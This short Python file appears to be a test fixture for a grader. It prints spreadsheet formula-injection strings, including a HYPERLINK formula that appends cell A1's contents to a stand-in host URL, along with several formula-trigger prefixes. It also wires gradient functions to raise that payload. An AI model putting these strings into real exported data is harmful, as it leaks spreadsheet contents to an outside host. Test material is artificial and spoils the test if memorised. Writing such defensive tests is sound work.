"""Puts formulas where a spreadsheet would run them.

expect: verdict=failed, score<=0, says=payload
"""
FORMULA = '=HYPERLINK("http://example.invalid?"&A1,"payload")'
print(FORMULA + "\n+1+1\n-1\n@SUM(1)\n\t=1\n\"\r=1,10,10")


def sum_of_cubes(x):
    raise ValueError(FORMULA)


gradient_by_autograd = gradient_by_hand = sum_of_cubes
